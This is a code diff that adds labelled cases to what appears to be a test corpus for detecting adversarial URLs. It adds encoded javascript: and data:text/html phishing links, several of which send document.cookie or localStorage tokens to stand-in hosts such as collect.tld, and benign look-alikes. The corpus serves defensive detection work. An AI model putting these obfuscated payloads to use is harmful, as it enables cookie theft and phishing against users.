@@ -13,6 +13,10 @@
 #   au26f  `javascript:` and `data:text/html` links offered to click, `file://` links to secret files;
 #   au26g  user-info tricks (`https://github.com@evil.tld/`, with a port or a password before the `@`);
 #   au26h  markdown links whose text shows one host and whose target is another registered domain;
+#   au26l  (added later, before its reading) `javascript:` and `data:text/html` link targets spelled with HTML
+#          character references or split by tab and newline references, which a browser and a markdown renderer
+#          decode before they read the scheme; ok26l: targets whose references decode to a page, a path or a
+#          do-nothing menu link;
 #   ok26   look-alikes: docs naming those services, analytics and UTM query strings, signed CDN links, OAuth redirect
 #          URIs, localhost dev URLs, IP addresses in docs, punycode of real non-Latin sites, SSRF advisories naming
 #          the metadata service, markdown links whose text and target are the same site (www, a shortener, an
@@ -254,5 +258,26 @@ ok += [
     'https://calendar.example.com/event?eid=NGJzOWZ0Y2Y2Nm9ocWg1dGdkZmdmNnA4ZWQgamFuZUBleGFtcGxlLmNvbQ&ctz=Europe/Lisbon',
 ]
 corpus.add('ok26', [], ok)
+corpus.add('au26l', ['adversarial_url'], [
+    '<a href="&#106;avascript:fetch(\'//collect.tld/?c=\'+document.cookie)">Verify your account</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(document.domain)">Open the invoice</a>',
+    '<a href="java&#x09;script:location=\'//x.tld/?\'+document.cookie">Claim the refund</a>',
+    '<a href="jav&#x0A;ascript:alert(1)">Download</a>',
+    '[Reset your password](java&#115;cript:alert(document.cookie))',
+    '<a href="&#0000106;&#0000097;vascript&colon;void(location=\'//evil.tld\')">Continue</a>',
+    '<a href="java&Tab;script:fetch(\'//c.tld/\'+localStorage.token)">View</a>',
+    '[Claim your prize](&#100;ata:text/html,<script>location=\'//evil.tld/\'</script>)',
+    '<a href="JaVa&NewLine;ScRiPt&colon;alert(1)">Sign in</a>',
+], source='web')
+corpus.add('ok26l', [], [
+    '<a href="&#47;docs&#47;javascript-basics">JavaScript basics</a>',
+    '<a href="java&#115;cript-tutorial.html">The tutorial</a>',
+    '<a href="&#106;avascript:void(0)">Menu</a>',
+    '<a href="&#106;avascript:;">Toggle the sidebar</a>',
+    '[Ask a question](https://example.com/search?q=java&#115;cript&#58;void)',
+    '<a href="/guides/data&#45;text&#45;html">Serving data as text/html</a>',
+    '<a href="caf&eacute;-menu.html">Caf&eacute; menu</a>',
+    '[Release notes](&#47;releases&#47;v2.3)',
+], source='web')
 corpus.write('cases-26')
 print(len(corpus.cases), sum(1 for c in corpus.cases if c['yes']))
